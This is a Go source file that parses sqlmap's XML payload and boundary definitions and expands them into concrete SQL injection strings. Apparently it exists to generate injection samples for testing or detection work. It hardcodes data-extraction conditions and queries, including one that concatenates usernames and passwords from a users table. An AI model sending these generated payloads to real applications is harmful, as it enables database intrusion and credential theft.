package main

import (
	"encoding/xml"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

// sqlmap's payload definitions (Debian package sqlmap, data/xml): tests
// (payload and vector templates per technique) and boundaries (the prefix
// and suffix that close the original query's context). Expanding them the
// way sqlmap does gives the requests sqlmap sends while detecting and
// exploiting an injection.

const sqlmapXMLDir = "/usr/share/sqlmap/data/xml"

type sqlmapTest struct {
	Title   string `xml:"title"`
	Clause  string `xml:"clause"`
	Where   string `xml:"where"`
	Vector  string `xml:"vector"`
	Request struct {
		Payload string `xml:"payload"`
		Comment string `xml:"comment"`
		Char    string `xml:"char"`
		Columns string `xml:"columns"`
	} `xml:"request"`
	File string
}

type sqlmapBoundary struct {
	Clause string `xml:"clause"`
	Where  string `xml:"where"`
	PType  int    `xml:"ptype"`
	Prefix string `xml:"prefix"`
	Suffix string `xml:"suffix"`
}

func loadSQLMap(dir string) ([]sqlmapTest, []sqlmapBoundary, error) {
	files, err := filepath.Glob(filepath.Join(dir, "payloads", "*.xml"))
	if err != nil || len(files) == 0 {
		return nil, nil, fmt.Errorf("sqlmap payloads not found in %s (apt-get install sqlmap)", dir)
	}
	sort.Strings(files)
	var tests []sqlmapTest
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			return nil, nil, fmt.Errorf("read %s: %w", f, err)
		}
		var doc struct {
			Tests []sqlmapTest `xml:"test"`
		}
		if err := xml.Unmarshal(b, &doc); err != nil {
			return nil, nil, fmt.Errorf("parse %s: %w", f, err)
		}
		for _, t := range doc.Tests {
			if t.Title == "" {
				continue // the documented empty template
			}
			t.File = filepath.Base(f)
			tests = append(tests, t)
		}
	}
	b, err := os.ReadFile(filepath.Join(dir, "boundaries.xml"))
	if err != nil {
		return nil, nil, fmt.Errorf("read boundaries: %w", err)
	}
	var doc struct {
		Boundaries []sqlmapBoundary `xml:"boundary"`
	}
	if err := xml.Unmarshal(b, &doc); err != nil {
		return nil, nil, fmt.Errorf("parse boundaries: %w", err)
	}
	var bs []sqlmapBoundary
	for _, x := range doc.Boundaries {
		if x.PType != 0 {
			bs = append(bs, x)
		}
	}
	return tests, bs, nil
}

func overlaps(a, b string) bool {
	if a == "0" || b == "0" {
		return true
	}
	for _, x := range strings.Split(a, ",") {
		for _, y := range strings.Split(b, ",") {
			if strings.TrimSpace(x) == strings.TrimSpace(y) {
				return true
			}
		}
	}
	return false
}

func randStr(r *rand.Rand, n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte('a' + r.IntN(26))
	}
	return string(b)
}

// sqlmapInference are the conditions sqlmap puts in [INFERENCE] while it
// extracts data, and [QUERY] the queries whose result it reads.
var sqlmapInference = []string{
	"ORD(MID((SELECT IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20)),%d,1))>%d",
	"ASCII(SUBSTRING((SELECT COALESCE(CAST(VERSION() AS VARCHAR(10000))::text,(CHR(32)))),%d,1))>%d",
	"UNICODE(SUBSTRING((SELECT ISNULL(CAST(@@VERSION AS NVARCHAR(4000)),CHAR(32))),%d,1))>%d",
	"ASCII(SUBSTRC((SELECT NVL(CAST(USER AS VARCHAR(4000)),CHR(32)) FROM DUAL),%d,1))>%d",
	"UNICODE(SUBSTR((SELECT COALESCE(CAST(sqlite_version() AS TEXT),CHAR(32))),%d,1))>%d",
	"ORD(MID((SELECT IFNULL(CAST(COUNT(table_name) AS NCHAR),0x20) FROM INFORMATION_SCHEMA.TABLES WHERE table_schema=0x6170705f6462),%d,1))>%d",
}

var sqlmapQuery = []string{
	"SELECT CURRENT_USER()", "SELECT VERSION()", "SELECT (ELT(%d=%d,1))", "SELECT @@VERSION",
	"SELECT USER FROM DUAL", "SELECT CONCAT(username,0x3a,password) FROM users LIMIT 0,1",
	"SELECT COUNT(*) FROM information_schema.tables", "SELECT name FROM sqlite_master LIMIT 1",
}

// expandSQLMap returns n concrete payloads: a test's payload or vector,
// closed by a boundary that fits its clause, on an original value.
func expandSQLMap(tests []sqlmapTest, bounds []sqlmapBoundary, n int, r *rand.Rand) []string {
	var out []string
	seen := map[string]bool{}
	for tries := 0; len(out) < n && tries < n*20; tries++ {
		t := tests[r.IntN(len(tests))]
		var fits []sqlmapBoundary
		for _, b := range bounds {
			if overlaps(t.Clause, b.Clause) && overlaps(t.Where, b.Where) {
				fits = append(fits, b)
			}
		}
		if len(fits) == 0 {
			continue
		}
		b := fits[r.IntN(len(fits))]
		tmpl := t.Request.Payload
		if r.IntN(2) == 0 || tmpl == "" {
			tmpl = t.Vector
		}
		orig := strconv.Itoa(1 + r.IntN(999))
		if b.PType != 1 {
			orig = pick(r, []string{"admin", "books", "news", "john", "2024", "shoes", "x"})
		}
		p := expandSQLMapTemplate(tmpl, t, orig, r)
		comment := expandSQLMapTemplate(t.Request.Comment, t, orig, r)
		prefix := expandSQLMapTemplate(b.Prefix, t, orig, r)
		suffix := expandSQLMapTemplate(b.Suffix, t, orig, r)
		if comment != "" {
			suffix = "" // sqlmap drops the boundary suffix when the test comments the rest out
		}
		where := strings.SplitN(t.Where, ",", 2)[0]
		var value string
		switch where {
		case "2": // negative original value
			value = "-" + strconv.Itoa(1+r.IntN(9999)) + prefix + " " + p + comment + suffix
		case "3": // replace
			value = prefix + p + comment + suffix
			if strings.TrimSpace(prefix) == "" {
				value = p + comment + suffix
			}
		default:
			value = orig + prefix + " " + p + comment + suffix
		}
		value = strings.TrimSpace(value)
		if value == "" || seen[value] {
			continue
		}
		seen[value] = true
		out = append(out, value)
	}
	return out
}

func expandSQLMapTemplate(s string, t sqlmapTest, orig string, r *rand.Rand) string {
	if s == "" {
		return ""
	}
	num := func() string { return strconv.Itoa(1000 + r.IntN(9000)) }
	delimStart := "q" + randStr(r, 3) + "q"
	delimStop := "q" + randStr(r, 3) + "q"
	repl := func(tag string, f func() string) {
		for strings.Contains(s, tag) {
			s = strings.Replace(s, tag, f(), 1)
		}
	}
	// RANDNUM is one value per template ([RANDNUM]=[RANDNUM] must hold).
	rn, rn1, rn2 := num(), num(), num()
	s = strings.ReplaceAll(s, "[RANDNUM]", rn)
	s = strings.ReplaceAll(s, "[RANDNUM1]", rn1)
	s = strings.ReplaceAll(s, "[RANDNUM2]", rn2)
	rs := randStr(r, 4)
	s = strings.ReplaceAll(s, "[RANDSTR]", rs)
	s = strings.ReplaceAll(s, "[RANDSTR1]", randStr(r, 4))
	s = strings.ReplaceAll(s, "[DELIMITER_START]", delimStart)
	s = strings.ReplaceAll(s, "[DELIMITER_STOP]", delimStop)
	s = strings.ReplaceAll(s, "[SLEEPTIME]", "5")
	s = strings.ReplaceAll(s, "[ORIGVALUE]", orig)
	s = strings.ReplaceAll(s, "[ORIGINAL]", orig)
	s = strings.ReplaceAll(s, "[GENERIC_SQL_COMMENT]", pick(r, []string{"-- " + randStr(r, 4), "-- -", "#"}))
	s = strings.ReplaceAll(s, "[SPACE_REPLACE]", " ")
	s = strings.ReplaceAll(s, "[DOLLAR_REPLACE]", "$")
	s = strings.ReplaceAll(s, "[HASH_REPLACE]", "#")
	s = strings.ReplaceAll(s, "[AT_REPLACE]", "@")
	s = strings.ReplaceAll(s, "[DELAYED]", "5")
	repl("[INFERENCE]", func() string {
		return fmt.Sprintf(pick(r, sqlmapInference), 1+r.IntN(20), 32+r.IntN(90))
	})
	repl("[QUERY]", func() string {
		q := pick(r, sqlmapQuery)
		if strings.Contains(q, "%d") {
			q = fmt.Sprintf(q, 1000+r.IntN(9000), 1000+r.IntN(9000))
		}
		return q
	})
	repl("[UNION]", func() string {
		cols := 1 + r.IntN(10)
		char := t.Request.Char
		if char == "" || strings.Contains(char, "[") {
			char = "NULL"
		}
		parts := make([]string, cols)
		for i := range parts {
			parts[i] = char
		}
		parts[r.IntN(cols)] = "CONCAT('" + delimStart + "','" + randStr(r, 20) + "','" + delimStop + "')"
		from := pick(r, []string{"", "", " FROM DUAL", " FROM (SELECT 1)x"})
		return "UNION ALL SELECT " + strings.Join(parts, ",") + from
	})
	repl("[CHAR]", func() string { return "NULL" })
	repl("[COLSTART]", func() string { return "1" })
	repl("[COLSTOP]", func() string { return "10" })
	return s
}
